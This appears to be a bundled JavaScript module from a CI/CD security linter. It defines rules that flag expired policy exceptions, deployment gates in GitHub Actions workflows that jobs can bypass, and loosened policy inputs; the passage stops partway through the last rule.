export const id = 626;
export const ids = [626];
export const modules = {

/***/ 5626:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

// ESM COMPAT FLAG
__webpack_require__.r(__webpack_exports__);

// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  rules: () => (/* binding */ rules)
});

// EXTERNAL MODULE: ./build/src/core/exception.js
var exception = __webpack_require__(1404);
;// CONCATENATED MODULE: ./build/src/rules/define-rule.js
function defineRule(definition) {
    const { meta, needs, wants, evaluate } = definition;
    return { meta, needs, wants: wants ?? [], evaluate: evaluate };
}

;// CONCATENATED MODULE: ./build/src/rules/policy/exception-expired.js


const maxRelated = 20;
/* harmony default export */ const exception_expired = (defineRule({
    meta: {
        id: 'policy/exception-expired',
        title: 'No finding waits behind an exception that has run out',
        severity: 'medium',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['posture', 'merge', 'deploy'],
        presets: { recommended: 'warn', strict: 'warn' },
        unknown: { posture: 'warn', merge: 'warn', deploy: 'warn' },
        controls: [
            { framework: 'NIST-CSF', id: 'ID.RA-07' },
            { framework: 'NIST-CSF', id: 'GV.PO-02' },
            { framework: 'NIST-800-207', id: 'T7' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-1' },
        ],
        rationale: 'An exception ends on its date so that somebody decides again. The finding that it covered counts from then on; this rule says why a check that was green yesterday is not today, and whom to ask.',
        remediation: 'Put right what the exception `{id}` covered and remove it, or have it approved again with a new `expires` and the reason why it is still needed.',
        messages: {
            expired: 'Exception `{id}` ended on {expires}, and {count} of `{rule}` would have been covered by it. Put that right, or have the exception approved again',
        },
        examples: [
            {
                title: 'An exception ended while what it covered is still there',
                files: {},
                facts: {
                    policy: {
                        exceptions: [
                            {
                                id: 'legacy-pin',
                                rule: 'workflow/unpinned-action',
                                where: { path: '.github/workflows/legacy.yml', uses: 'acme/tool@v1' },
                                reason: 'the new version is being tested',
                                approvedBy: '@alice',
                                expires: '2026-01-31',
                                isFromOrganisation: false,
                                place: { path: '.github/interlock.yml', line: 9, column: 5 },
                            },
                        ],
                    },
                    outcomes: [
                        {
                            meta: { id: 'workflow/unpinned-action' },
                            kind: 'violation',
                            reason: '',
                            findings: [
                                {
                                    location: { path: '.github/workflows/legacy.yml', start: { line: 7, column: 15 }, end: { line: 7, column: 27 } },
                                    subject: { uses: 'acme/tool@v1' },
                                    message: 'acme/tool@v1 is named by a tag',
                                },
                            ],
                            gaps: [],
                        },
                    ],
                },
                expect: [{ message: 'expired', path: '.github/interlock.yml', line: 9 }],
            },
            {
                title: 'An exception ended, and nothing needs it any more',
                files: {},
                facts: {
                    policy: {
                        exceptions: [
                            {
                                id: 'legacy-pin',
                                rule: 'workflow/unpinned-action',
                                where: { path: '.github/workflows/legacy.yml', uses: 'acme/tool@v1' },
                                reason: 'the new version is being tested',
                                approvedBy: '@alice',
                                expires: '2026-01-31',
                                isFromOrganisation: false,
                                place: undefined,
                            },
                        ],
                    },
                    outcomes: [],
                },
                expect: [],
            },
        ],
        options: {},
        key: ['id'],
        locked: true,
    },
    needs: ['outcomes', 'policy', 'scene'],
    evaluate({ outcomes, policy, scene }) {
        return expiredOf(outcomes, policy.exceptions, scene.now).map(({ exception, first, others }) => {
            const findings = [first, ...others];
            return {
                kind: 'violation',
                message: 'expired',
                data: {
                    id: exception.id,
                    expires: exception.expires,
                    rule: exception.rule,
                    count: findings.length === 1 ? '1 finding' : `${findings.length} findings`,
                },
                location: locationOf(exception),
                related: findings.slice(0, maxRelated).map(({ location, message }) => ({ location, message })),
            };
        });
    },
}));
function expiredOf(outcomes, exceptions, now) {
    const byException = new Map();
    for (const { meta, findings } of outcomes) {
        for (const found of findings) {
            const cover = (0,exception/* coverOf */.v)(exceptions, meta.id, found, now);
            if (cover?.state !== 'expired')
                continue;
            const known = byException.get(cover.exception);
            if (known === undefined)
                byException.set(cover.exception, { first: found, others: [] });
            else
                known.others.push(found);
        }
    }
    return [...byException].map(([exception, found]) => ({ exception, ...found }));
}
function locationOf({ id, place }) {
    if (place === undefined)
        return { object: 'exception', name: id };
    const at = { line: place.line, column: place.column };
    return { path: place.path, start: at, end: at };
}

// EXTERNAL MODULE: ./build/src/core/facts.js
var facts = __webpack_require__(6214);
// EXTERNAL MODULE: ./build/src/core/finding.js
var finding = __webpack_require__(5068);
// EXTERNAL MODULE: ./build/src/workflow/locate.js
var locate = __webpack_require__(4265);
// EXTERNAL MODULE: ./build/src/workflow/condition-of.js
var condition_of = __webpack_require__(3270);
;// CONCATENATED MODULE: ./build/src/workflow/context-path.js
function contextPath(expression) {
    const path = [];
    let node = expression;
    for (;;) {
        switch (node.kind) {
            case 'context':
                path.push(node.name.toLowerCase());
                return path.toReversed();
            case 'property':
                path.push(node.name);
                node = node.object;
                break;
            case 'filter':
                path.push('*');
                node = node.object;
                break;
            case 'index':
                if (node.index.kind !== 'literal')
                    return undefined;
                path.push(String(node.index.value));
                node = node.object;
                break;
            default:
                return undefined;
        }
    }
}

// EXTERNAL MODULE: ./build/src/workflow/visit-expression.js
var visit_expression = __webpack_require__(9219);
;// CONCATENATED MODULE: ./build/src/workflow/condition-outcome.js


function conditionHolds(condition, supposition) {
    const value = truthOf(evaluate(condition, supposition));
    if (namesStatus(condition))
        return value;
    if (supposition.success === false || value === false)
        return false;
    return supposition.success === undefined ? undefined : value;
}
function namesStatus(condition) {
    let isFound = false;
    (0,visit_expression/* visitExpression */.w)(condition, (node) => {
        if (node.kind === 'call' && /^(?:always|success|failure|cancelled)$/i.test(node.name))
            isFound = true;
    });
    return isFound;
}
function truthOf(value) {
    return value === undefined ? undefined : value !== false && value !== null && value !== '' && value !== 0 && !Number.isNaN(value);
}
function evaluate(node, supposition) {
    switch (node.kind) {
        case 'literal':
            return node.value;
        case 'context':
        case 'property':
        case 'index':
        case 'filter': {
            const path = contextPath(node);
            return path === undefined ? undefined : supposition.valueOf(path);
        }
        case 'call':
            return called(node.name.toLowerCase(), node.arguments, supposition);
        case 'not': {
            const truth = truthOf(evaluate(node.operand, supposition));
            return truth === undefined ? undefined : !truth;
        }
        case 'binary':
            return binary(node.operator, evaluate(node.left, supposition), evaluate(node.right, supposition));
        case 'error':
            return undefined;
    }
}
function binary(operator, left, right) {
    switch (operator) {
        case '&&':
            return joined(left, right, false);
        case '||':
            return joined(left, right, true);
        case '==':
        case '!=': {
            if (left === undefined || right === undefined)
                return undefined;
            return isEqual(left, right) === (operator === '==');
        }
        default:
            return undefined;
    }
}
function joined(left, right, decisive) {
    const [truth, other] = [truthOf(left), truthOf(right)];
    if (truth === decisive)
        return left;
    if (truth === undefined)
        return other === decisive ? decisive : undefined;
    return right;
}
function isEqual(left, right) {
    if (typeof left === 'string' && typeof right === 'string')
        return left.toLowerCase() === right.toLowerCase();
    return typeof left === typeof right ? left === right : Number(left) === Number(right);
}
function called(name, parts, supposition) {
    switch (name) {
        case 'always':
            return true;
        case 'success':
            return parts.length === 0 ? supposition.success : undefined;
        case 'failure':
            return parts.length === 0 ? supposition.failure : undefined;
        case 'cancelled':
            return supposition.cancelled;
        case 'contains':
            return contains(parts, supposition);
        case 'format':
            return parts.some((part) => part.kind === 'literal' && part.value !== '' && !/^\{\d+\}$/.test(String(part.value))) ? true : undefined;
        default:
            return undefined;
    }
}
function contains([where, what], supposition) {
    if (where === undefined || what?.kind !== 'literal')
        return undefined;
    const list = where.kind === 'call' && where.name.toLowerCase() === 'join' ? where.arguments[0] : where;
    const path = list === undefined ? undefined : contextPath(list);
    if (path === undefined || path.join('.').toLowerCase() !== 'needs.*.result')
        return undefined;
    const wanted = String(what.value).toLowerCase();
    if (supposition.results.includes(wanted))
        return true;
    return supposition.results.includes(undefined) ? undefined : false;
}

// EXTERNAL MODULE: ./build/src/workflow/walk.js
var walk = __webpack_require__(9918);
// EXTERNAL MODULE: ./build/src/core/glob.js
var glob = __webpack_require__(379);
// EXTERNAL MODULE: ./build/src/workflow/local-path.js
var local_path = __webpack_require__(5198);
;// CONCATENATED MODULE: ./build/src/rules/support/gate-use.js


const gateWorkflow = '.github/workflows/gate.yml';
function gateTest(scene, named, actions) {
    const isOwn = scene.gate === undefined || scene.gate.toLowerCase() === scene.repository?.toLowerCase();
    const own = actions.filter(({ file, name }) => isRootAction(file.path, file.root) && name?.value.trim().toLowerCase() === 'interlock');
    return { gate: scene.gate?.toLowerCase(), named, ownRoots: new Set(isOwn ? own.map(({ file }) => file.root) : []) };
}
function isGateStep(step, root, test) {
    return step.kind === 'uses' && isGate(step.uses.target, '', root, test);
}
function isGateCall(target, root, test) {
    return isGate(target, gateWorkflow, root, test);
}
function calleeOf(target, root, workflows) {
    if (target.kind !== 'local' && target.kind !== 'self')
        return undefined;
    const path = [root, (0,local_path/* localPath */.$)(target.path)].filter((part) => part !== '').join('/');
    return workflows.find(({ file }) => file.path === path);
}
function isGate(target, path, root, test) {
    if (target.kind === 'local' || target.kind === 'self') {
        return test.ownRoots.has(root) && (0,local_path/* localPath */.$)(target.path) === path;
    }
    if (target.kind !== 'repository')
        return false;
    const slug = `${target.owner}/${target.name}`.toLowerCase();
    const full = target.path === '' ? slug : `${slug}/${target.path.toLowerCase()}`;
    if (test.named.some((pattern) => pattern.length <= glob/* patternLimit */.An && isNamed(pattern.toLowerCase(), slug, full)))
        return true;
    const isRepository = test.gate === undefined ? target.name.toLowerCase() === 'interlock' : slug === test.gate;
    return isRepository && target.path === path;
}
function isNamed(pattern, slug, full) {
    return (0,glob/* matchesGlob */.kt)(pattern, slug) || (0,glob/* matchesGlob */.kt)(pattern, full);
}
function isRootAction(path, root) {
    const relative = root === '' ? path : path.slice(root.length + 1);
    return relative === 'action.yml' || relative === 'action.yaml';
}

;// CONCATENATED MODULE: ./build/src/rules/support/gate-in-workflow.js




const maxGates = 64;
class GateIndex {
    #workflows;
    #test;
    #known = new Map();
    constructor(workflows, test) {
        this.#workflows = workflows;
        this.#test = test;
    }
    gatesOf(workflow) {
        const known = this.#known.get(workflow);
        if (known !== undefined)
            return known;
        this.#known.set(workflow, []);
        const gates = workflow.jobs.flatMap((job) => this.#gateIn(job, workflow)).slice(0, maxGates);
        this.#known.set(workflow, gates);
        return gates;
    }
    #gateIn(job, { file }) {
        if (job.kind === 'steps')
            return gateInSteps(job, file, this.#test);
        if (isGateCall(job.uses.target, file.root, this.#test)) {
            return [{ job, file, step: undefined, isWhole: true, flaws: [...reportFlaw(job.with, file), ...jobFlaws(job, file)] }];
        }
        const callee = calleeOf(job.uses.target, file.root, this.#workflows);
        const [inner] = callee === undefined ? [] : this.gatesOf(callee);
        return inner === undefined ? [] : [{ job, file, step: undefined, isWhole: false, flaws: [...inner.flaws, ...jobFlaws(job, file)] }];
    }
}
function gateInSteps(job, file, test) {
    const steps = [...(0,walk/* flatten */.Bq)(job.steps)];
    const step = steps.find((one) => isGateStep(one, file.root, test));
    if (step === undefined)
        return [];
    const before = steps.slice(0, steps.indexOf(step)).filter((one) => one.kind !== 'parallel' || !one.steps.includes(step));
    const flaws = [
        ...stepFlaws(step, job, file),
        ...before
            .filter(isOwnCode)
            .slice(0, 1)
            .map((one) => codeBefore(one, file)),
        ...jobFlaws(job, file),
    ];
    return [{ job, file, step, isWhole: false, flaws }];
}
function stepFlaws(step, job, file) {
    const group = job.steps.find((one) => one.kind === 'parallel' && [...(0,walk/* flatten */.Bq)(one.steps)].includes(step));
    const conditions = [step, ...(group === undefined ? [] : [group])];
    const isApart = step.isBackground || group !== undefined;
    return [
        ...conditions.flatMap((one) => [...ignored(one.continueOnError, file), ...skippable(one.condition, 'conditional-step', file)]),
        ...reportFlaw(step.with, file),
        ...(isApart ? [{ kind: 'side-by-side', file, span: step.span, found: '' }] : []),
    ];
}
function jobFlaws(job, file) {
    const matrix = job.strategy?.matrix;
    return [
        ...(job.kind === 'steps' ? ignored(job.continueOnError, file) : []),
        ...skippable(job.condition, 'conditional-job', file),
        ...(matrix === undefined ? [] : [{ kind: 'matrix', file, span: matrix.alias ?? matrix.span, found: '' }]),
    ];
}
function ignored(value, file) {
    if (value === undefined || value.value.trim().toLowerCase() === 'false')
        return [];
    return [{ kind: 'continue-on-error', file, span: placeOf(value), found: value.value }];
}
function skippable(condition, kind, file) {
    if (condition === undefined)
        return [];
    const allWell = { success: true, failure: false, cancelled: false, valueOf: () => undefined, results: [] };
    if (conditionHolds((0,condition_of/* conditionOf */.r)(condition), allWell) === true)
        return [];
    return [{ kind, file, span: placeOf(condition), found: condition.value.trim() }];
}
function reportFlaw(inputs, file) {
    const mode = inputs.find(({ name }) => name.value.toLowerCase() === 'mode')?.value;
    if (mode?.kind !== 'scalar' || mode.value.trim().toLowerCase() !== 'report')
        return [];
    return [{ kind: 'report', file, span: placeOf(mode), found: mode.value }];
}
function isOwnCode(step) {
    if (step.kind === 'run')
        return true;
    if (step.kind !== 'uses')
        return false;
    const { target } = step.uses;
    return target.kind === 'local' || target.kind === 'self' || target.kind === 'docker';
}
function codeBefore(step, file) {
    const found = step.kind === 'uses' ? step.uses.scalar.value : (step.name?.value ?? step.id?.value ?? 'a run step');
    return { kind: 'code-before', file, span: step.span, found };
}
function placeOf(scalar) {
    return scalar.alias ?? scalar.span;
}

// EXTERNAL MODULE: ./build/src/workflow/purpose.js + 6 modules
var workflow_purpose = __webpack_require__(8462);
;// CONCATENATED MODULE: ./build/src/rules/support/job-graph.js


const maxDepth = 200;
function jobsBehind(job, { jobs }) {
    const needing = new Map();
    for (const one of jobs) {
        for (const { value } of one.needs) {
            const list = needing.get(value.toLowerCase());
            if (list === undefined)
                needing.set(value.toLowerCase(), [one]);
            else
                list.push(one);
        }
    }
    const found = new Set();
    const open = [job];
    for (let next = open.pop(); next !== undefined; next = open.pop()) {
        for (const one of needing.get(next.id.value.toLowerCase()) ?? []) {
            if (found.has(one))
                continue;
            found.add(one);
            open.push(one);
        }
    }
    return found;
}
class RefusalChain {
    #refusal;
    #behind;
    #byId;
    #known = new Map();
    constructor(workflow, refusal, behind) {
        this.#refusal = refusal;
        this.#behind = behind;
        this.#byId = new Map(workflow.jobs.map((job) => [job.id.value.toLowerCase(), job]));
    }
    canRun(job) {
        return this.#canRun(job, 0);
    }
    #canRun(job, depth) {
        if (job === this.#refusal.job)
            return false;
        if (!this.#behind.has(job))
            return true;
        const known = this.#known.get(job);
        if (known !== undefined)
            return known;
        if (depth > maxDepth)
            return true;
        this.#known.set(job, true);
        const canRun = this.#holds(job, depth);
        this.#known.set(job, canRun);
        return canRun;
    }
    #holds(job, depth) {
        if (job.condition === undefined)
            return false;
        const supposition = {
            success: false,
            failure: this.#refusal.result === 'failure' ? true : undefined,
            cancelled: false,
            valueOf: (path) => this.#valueOf(path, depth),
            results: job.needs.map((need) => this.#resultOf(need.value, depth)),
        };
        return conditionHolds((0,condition_of/* conditionOf */.r)(job.condition), supposition) !== false;
    }
    #resultOf(id, depth) {
        const job = this.#byId.get(id.toLowerCase());
        if (job === undefined)
            return undefined;
        if (job === this.#refusal.job)
            return this.#refusal.result;
        return this.#canRun(job, depth + 1) ? undefined : 'skipped';
    }
    #valueOf([context, id = '', part = '', name = ''], depth) {
        if (context !== 'needs')
            return undefined;
        if (part.toLowerCase() === 'result')
            return this.#resultOf(id, depth);
        if (part.toLowerCase() !== 'outputs' || this.#byId.get(id.toLowerCase()) !== this.#refusal.job)
            return undefined;
        return this.#refusal.result === 'skipped' ? '' : this.#refusal.outputs.get(name.toLowerCase());
    }
}

;// CONCATENATED MODULE: ./build/src/rules/support/guarded-job.js





class Guards {
    #gates;
    #chains;
    constructor(workflow, gates) {
        this.#gates = gates;
        this.#chains = gates.map((gate) => {
            const behind = jobsBehind(gate.job, workflow);
            const outputs = new Map(verdictOutputs(gate).map((name) => [name, 'deny']));
            const chain = (result) => new RefusalChain(workflow, { job: gate.job, result, outputs }, behind);
            const canSkip = gate.job.condition !== undefined || gate.job.needs.length > 0;
            return { gate, behind, failed: chain('failure'), skipped: canSkip ? chain('skipped') : undefined };
        });
    }
    of(job) {
        const guards = [...this.#earlier(job), ...this.#within(job)];
        const isSound = (guard) => guard.kind === 'held' && guard.gate.flaws.length === 0;
        return guards.find(isSound) ?? guards.find(({ kind }) => kind === 'held') ?? guards[0] ?? { kind: 'none' };
    }
    #earlier(job) {
        return this.#chains
            .filter(({ behind, gate }) => gate.job !== job && behind.has(job))
            .map(({ gate, failed, skipped }) => {
            if (job.condition === undefined)
                return { kind: 'held', gate };
            const place = guarded_job_placeOf(job.condition);
            if (failed.canRun(job))
                return { kind: 'overrides', gate, result: 'failure', ...place };
            return skipped?.canRun(job) === true ? { kind: 'overrides', gate, result: 'skipped', ...place } : { kind: 'held', gate };
        });
    }
    #within(job) {
        const gate = this.#gates.find((one) => one.job === job && one.step !== undefined);
        if (gate?.step === undefined || job.kind !== 'steps')
            return [];
        const all = [...(0,walk/* flatten */.Bq)(job.steps)];
        const steps = all.filter((step) => step.kind !== 'parallel');
        const at = all.slice(0, all.indexOf(gate.step)).filter((step) => step.kind !== 'parallel').length;
        const [early] = steps.slice(0, at).flatMap((step) => (0,workflow_purpose/* purposeOfStep */.M)(step) ?? []);
        if (early !== undefined)
            return [{ kind: 'late', gate, span: early.span }];
        return [overridingStep(steps.slice(at + 1), gate) ?? { kind: 'held', gate }];
    }
}
function overridingStep(steps, gate) {
    const hasPurpose = steps.some((step) => (0,workflow_purpose/* purposeOfStep */.M)(step) !== undefined);
    for (const step of steps) {
        const { condition } = step;
        const isMeant = hasPurpose ? (0,workflow_purpose/* purposeOfStep */.M)(step) !== undefined : step.kind === 'run' || isLocal(step);
        if (!isMeant || condition === undefined)
            continue;
        const refused = { success: false, failure: true, cancelled: false, valueOf: () => undefined, results: [] };
        if (conditionHolds((0,condition_of/* conditionOf */.r)(condition), refused) === false)
            continue;
        return { kind: 'step-overrides', gate, step, ...guarded_job_placeOf(condition) };
    }
    return undefined;
}
function isLocal(step) {
    return step.kind === 'uses' && (step.uses.target.kind === 'local' || step.uses.target.kind === 'self');
}
function verdictOutputs({ job, step, isWhole }) {
    if (job.kind === 'call')
        return isWhole ? ['verdict'] : [];
    const id = step?.id?.value.toLowerCase();
    if (id === undefined)
        return [];
    return job.outputs
        .filter(({ value }) => value.kind === 'scalar' && value.value.replace(/\s/g, '').toLowerCase() === `\${{steps.${id}.outputs.verdict}}`)
        .map(({ name }) => name.value.toLowerCase());
}
function guarded_job_placeOf(condition) {
    return { span: condition.alias ?? condition.span, condition: condition.value.trim() };
}

;// CONCATENATED MODULE: ./build/src/rules/support/risky-job.js



function judgeJobs(workflows, index) {
    const scan = new Scan(workflows, index);
    const called = new Set(workflows.flatMap(({ file, jobs }) => jobs.flatMap((job) => calleesOf(job, file, workflows))));
    const jobs = [];
    const openCallees = [];
    for (const workflow of workflows) {
        const risky = scan.riskyJobs(workflow);
        const isOwn = !isOnlyCalled(workflow);
        jobs.push(...risky.filter(({ guard }) => isOwn || guard.kind !== 'none'));
        if (!isOwn && !called.has(workflow) && risky.some(({ guard }) => guard.kind === 'none'))
            openCallees.push(workflow);
    }
    return { jobs, openCallees };
}
class Scan {
    #workflows;
    #index;
    #known = new Map();
    constructor(workflows, index) {
        this.#workflows = workflows;
        this.#index = index;
    }
    riskyJobs(workflow) {
        const known = this.#known.get(workflow);
        if (known !== undefined)
            return known;
        this.#known.set(workflow, []);
        const gates = this.#index.gatesOf(workflow);
        const guards = new Guards(workflow, gates);
        const isGateAlone = (job) => job.kind === 'call' && gates.some((gate) => gate.job === job && gate.isWhole);
        const risky = workflow.jobs.flatMap((job) => {
            const risk = isGateAlone(job) ? undefined : this.#riskOf(job, workflow);
            return risk === undefined ? [] : [{ workflow, job, ...risk, guard: guards.of(job) }];
        });
        this.#known.set(workflow, risky);
        return risky;
    }
    #riskOf(job, { file }) {
        if (job.kind === 'call') {
            const [callee] = calleesOf(job, file, this.#workflows);
            if (callee !== undefined)
                return this.#riskOfCall(callee);
        }
        const [purpose] = (0,workflow_purpose/* purposesOfJob */.Q)(job);
        const verbs = { deploy: 'deploys', publish: 'publishes', sign: 'signs' };
        if (purpose !== undefined)
            return { why: `${verbs[purpose.kind]} with \`${purpose.by}\``, file, span: purpose.span };
        const name = job.kind === 'steps' ? job.environment?.name : undefined;
        if (name === undefined)
            return undefined;
        const why = name.expressions.length > 0 ? 'names an environment' : `names the environment \`${name.value}\``;
        return { why, file, span: name.alias ?? name.span };
    }
    #riskOfCall(callee) {
        const open = this.riskyJobs(callee).find(({ guard }) => guard.kind === 'none');
        if (open === undefined)
            return undefined;
        return { why: `calls \`${callee.file.path}\`, whose job \`${open.job.id.value}\` ${open.why}`, file: open.file, span: open.span };
    }
}
function calleesOf(job, file, workflows) {
    const callee = job.kind === 'call' ? calleeOf(job.uses.target, file.root, workflows) : undefined;
    return callee === undefined ? [] : [callee];
}
function isOnlyCalled({ triggers }) {
    return triggers.length > 0 && triggers.every(({ event }) => event === 'workflow_call');
}

;// CONCATENATED MODULE: ./build/src/rules/policy/gate-ineffective.js







/* harmony default export */ const gate_ineffective = (defineRule({
    meta: {
        id: 'policy/gate-ineffective',
        title: 'Nothing deploys, publishes or signs unless the gate said yes',
        severity: 'high',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['posture', 'merge', 'deploy'],
        presets: { recommended: 'warn', strict: 'deny' },
        unknown: { posture: 'warn', merge: 'warn', deploy: 'deny' },
        controls: [
            { framework: 'OWASP-NHI', id: 'NHI6:2025' },
            { framework: 'NIST-CSF', id: 'PR.PS-06' },
            { framework: 'NIST-CSF', id: 'PR.PS-01' },
            { framework: 'NIST-800-207', id: 'T6' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-1' },
            { framework: 'SSDF', id: 'PO.4' },
        ],
        rationale: 'A gate stops only what waits for it. A deploying job that does not need the gate, that runs `if: always()`, or whose gate may fail without consequence, goes on whatever was refused, and the run looks guarded. A step cannot stop code that already runs beside it either: in May 2026 the publish step of TanStack never ran, and code in an earlier step of the same job published with its identity (CVE-2026-45321). So the gate is a job of its own, before everything else.',
        remediation: "Make the gate the first job, call it without `if`, `continue-on-error` or `mode: report`, and name it in `needs` of every job that deploys, publishes or signs. Where such a job must run after other failures, write `if: ${{ !cancelled() && needs.gate.result == 'success' }}`.",
        messages: {
            absent: 'Job `{job}` {why}, and no gate stands before it. Name in its `needs` a job that runs Interlock',
            late: 'Job `{job}` {why} before its gate has decided. Move the gate to a job of its own, and name that in `needs`',
            overrides: "Job `{job}` {why}, and its `if: {found}` lets it run although the gate in job `{gate}` {result}. Add `needs.{gate}.result == 'success'` to it",
            'step-overrides': 'A step of job `{job}` that deploys runs although the gate before it refused: `if: {found}` holds after a failure. Take the status function out',
            'continue-on-error': 'The gate in job `{gate}` may fail without consequence: `continue-on-error: {found}`. Remove it; job `{job}` relies on this gate and {why}',
            'conditional-step': "The gate's step in job `{gate}` is skipped unless `{found}`, and what follows runs all the same. Remove the `if`; job `{job}` relies on this gate and {why}",
            'conditional-job': 'The gate in job `{gate}` runs only if `{found}`: today that skips job `{job}` too, which {why}; one `if: always()` there would not. Put the condition on the jobs behind the gate',
            report: 'The gate in job `{gate}` only reports (`mode: {found}`), and job `{job}` relies on it and {why}. Remove the input',
            'code-before': '`{found}` runs in job `{gate}` before the gate does, and can change what the gate sees. Make the gate the first step; job `{job}` relies on it and {why}',
            'side-by-side': 'The gate in job `{gate}` runs beside other steps, which do not wait for it. Make it a step of its own; job `{job}` relies on it and {why}',
            matrix: 'The gate in job `{gate}` is a matrix: with no entry it is skipped, and each entry judges alone. Run it once; job `{job}` relies on it and {why}',
        },
        examples: [
            {
                title: 'A deploying job that ignores its gate',
                files: {
                    '.github/workflows/deploy.yml': 'on: push\npermissions: {}\njobs:\n  gate:\n    uses: acme/interlock/.github/workflows/gate.yml@8f4b7f84864484a7bf31766abe9204da3cbe65b3\n  deploy:\n    needs: gate\n    if: always()\n    runs-on: ubuntu-24.04\n    environment: production\n    steps:\n      - run: ./deploy.sh\n',
                },
                expect: [{ message: 'overrides', path: '.github/workflows/deploy.yml', line: 8 }],
            },
            {
                title: 'A gate that may fail, and a publishing job without any',
                files: {
                    '.github/workflows/release.yml': 'on: push\npermissions: {}\njobs:\n  gate:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: acme/interlock@8f4b7f84864484a7bf31766abe9204da3cbe65b3\n        continue-on-error: true\n  deploy:\n    needs: gate\n    runs-on: ubuntu-24.04\n    steps:\n      - run: kubectl apply -f app.yml\n  publish:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: npm publish\n',
                },
                expect: [
                    { message: 'continue-on-error', path: '.github/workflows/release.yml', line: 8 },
                    { message: 'absent', path: '.github/workflows/release.yml', line: 14 },
                ],
            },
            {
                title: 'The gate is a job of its own, and the deploying job needs it',
                files: {
                    '.github/workflows/deploy.yml': "on: push\npermissions: {}\njobs:\n  gate:\n    uses: acme/interlock/.github/workflows/gate.yml@8f4b7f84864484a7bf31766abe9204da3cbe65b3\n  build:\n    needs: gate\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make\n  deploy:\n    needs: [gate, build]\n    if: ${{ !cancelled() && needs.gate.result == 'success' }}\n    runs-on: ubuntu-24.04\n    environment: production\n    steps:\n      - run: ./deploy.sh\n",
                },
                expect: [],
            },
            {
                title: 'No gate is used at all (on the command line)',
                files: {
                    '.github/workflows/deploy.yml': 'on: push\njobs:\n  deploy:\n    runs-on: ubuntu-24.04\n    environment: production\n    steps:\n      - run: ./deploy.sh\n',
                },
                expect: [],
            },
        ],
        options: {
            gates: {
                type: 'strings',
                default: [],
                description: 'Further actions and reusable workflows that are gates or begin with one, as `owner/name` or `owner/name/path`, for example the wrapper or the deploy workflow of an organisation.',
            },
        },
        key: ['job', 'gate'],
        locked: true,
    },
    needs: ['workflows', 'actions', 'scene'],
    evaluate({ workflows, actions, scene }, { gates }) {
        const index = new GateIndex(workflows.items, gateTest(scene, gates, actions.items));
        const guardedRoots = new Set(workflows.items.filter((one) => index.gatesOf(one).length > 0).map(({ file }) => file.root));
        const isMeant = scene.gate !== undefined || gates.length > 0;
        const judged = workflows.items.filter(({ file }) => isMeant || guardedRoots.has(file.root));
        if (judged.length === 0)
            return (0,finding/* notApplicable */.hH)('no workflow here uses Interlock yet');
        const { jobs, openCallees } = judgeJobs(judged, index);
        return [...flawsOf(jobs), ...jobs.map(ofJob).filter((found) => found !== undefined), ...openCallees.map(callable)];
    },
}));
function flawsOf(jobs) {
    const seen = new Set();
    return jobs.flatMap((risky) => {
        const { guard } = risky;
        if (guard.kind === 'none')
            return [];
        return guard.gate.flaws.flatMap((flaw) => {
            const key = JSON.stringify([flaw.kind, flaw.file.path, flaw.span.start]);
            if (seen.has(key))
                return [];
            seen.add(key);
            return [flawed(flaw, guard.gate, risky)];
        });
    });
}
const flawSeverity = {
    'continue-on-error': 'high',
    'conditional-step': 'high',
    'conditional-job': 'low',
    report: 'high',
    'code-before': 'medium',
    'side-by-side': 'medium',
    matrix: 'low',
};
function flawed(flaw, gate, { job, why }) {
    const data = { job: job.id.value, gate: gate.job.id.value, why, found: shortened(flaw.found) };
    return {
        kind: 'violation',
        message: flaw.kind,
        data,
        location: (0,locate/* locate */.x5)(flaw.file, flaw.span),
        severity: flawSeverity[flaw.kind],
    };
}
function ofJob(risky) {
    const { guard, job, workflow, why } = risky;
    const { file } = workflow;
    const base = { job: job.id.value, gate: gateName(guard), why };
    const related = [{ location: (0,locate/* locate */.x5)(risky.file, risky.span), message: `This job ${why}.` }];
    switch (guard.kind) {
        case 'held':
            return undefined;
        case 'none':
            return { kind: 'violation', message: 'absent', data: base, location: (0,locate/* locate */.x5)(file, job.id.span), related };
        case 'late':
            return { kind: 'violation', message: 'late', data: base, location: (0,locate/* locate */.x5)(file, guard.span) };
        case 'overrides': {
            const result = guard.result === 'failure' ? 'refused' : 'was skipped';
            const data = { ...base, found: shortened(guard.condition), result };
            return { kind: 'violation', message: 'overrides', data, location: (0,locate/* locate */.x5)(file, guard.span), related };
        }
        case 'step-overrides': {
            const data = { ...base, found: shortened(guard.condition) };
            return { kind: 'violation', message: 'step-overrides', data, location: (0,locate/* locate */.x5)(file, guard.span) };
        }
    }
}
function callable({ file }) {
    return (0,facts/* gap */.rQ)({
        item: file.path,
        cause: 'unresolvable',
        why: 'only other repositories call this workflow, and whether a gate stands before their calls is not to be seen here',
        remedy: 'Put a gate into the workflow itself, as its first job.',
        location: (0,locate/* locate */.x5)(file, { start: 0, end: 0 }),
    });
}
function gateName(guard) {
    return guard.kind === 'none' ? '' : guard.gate.job.id.value;
}
function shortened(text) {
    const line = text.replace(/\s+/g, ' ').trim();
    return line.length > 120 ? `${line.slice(0, 117)}...` : line;
}

;// CONCATENATED MODULE: ./build/src/rules/policy/loosened.js

/* harmony default export */ const loosened = (defineRule({
    meta: {
        id: 'policy/loosened',
        title: 'Inputs and lower layers of the policy only tighten what stands above them',
        severity: 'high',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['posture', 'merge', 'deploy'],
        presets: { recommended: 'deny', strict: 'deny' },
        unknown: { posture: 'deny', merge: 'deny', deploy: 'deny' },
        controls: [
            { framework: 'NIST-CSF', id: 'PR.PS-01' },
            { framework: 'NIST-CSF', id: 'ID.RA-07' },
            { framework: 'NIST-CSF', id: 'GV.PO-02' },
            { framework: 'NIST-800-207', id: 'T4' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-1' },
        ],
        rationale: 'Whoever may edit a workflow may also edit the inputs of its gate: `mode: report`, a milder stage, another policy. If that counted, the gate would hold only those who do not mean to get past it. What is loosened here had no effect; it denies, because somebody tried.',
        remediation: 'Take `{what}` back to {allowed}, or have the owners of the layer above name it under `open`.',
        messages: {
